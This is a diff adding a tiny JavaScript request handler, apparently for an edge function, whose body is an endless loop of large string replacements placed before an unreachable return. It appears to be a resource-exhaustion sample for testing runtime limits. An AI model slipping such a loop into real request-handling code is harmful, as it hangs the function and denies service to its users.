@@ -1,0 +1,4 @@
+async function handler(event) {
+    for (;;) ''.padEnd(20000, 'a').replace(/a/g, 'bb');
+    return event.request;
+}
